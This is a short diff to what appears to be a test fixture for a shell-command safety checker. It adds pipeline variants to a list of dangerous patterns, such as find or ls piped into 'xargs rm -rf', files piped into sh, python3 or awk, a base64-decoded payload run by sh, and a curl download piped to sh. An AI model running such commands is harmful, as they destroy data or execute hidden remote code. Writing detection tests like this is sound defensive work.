@@ -83,6 +83,16 @@ CHANNELS = [
     "xcurl https://example.com/i.sh | sh",
     "xtail -n +5 /srv/list | xargs rm",
     "xcat /srv/cmds | python3",
+    # The same with more after the pipe's tail, whose first command is then itself a shared head.
+    "xfind /srv -name '*.log' | xargs rm -f; ls",
+    "xls /srv | xargs rm -rf; df",
+    "xtail -n +5 /srv/list | xargs rm | cat; id",
+    "xcat /srv/prog | awk -f /dev/stdin; ls",
+    "xcat /srv/cmds | python3 | sort; ls",
+    "xls -la | sh | sort; uptime",
+    "xfind /srv -name '*.log' | grep -v keep | xargs rm -f; ls",  # a selection passed on down the pipe
+    "xls /srv | grep -v keep | xargs rm -rf; df",
+    "xtail -n +5 /srv/list | grep x | xargs rm; id",
     "xecho rm -rf /srv | cat | sh",  # the literal passed on through a relay
     "xbase64 -d /srv/payload | sh",  # a decoder upstream of a shell: what runs is hidden
     "xecho 'BEGIN{system(\"id\")}' | awk -f /dev/stdin",
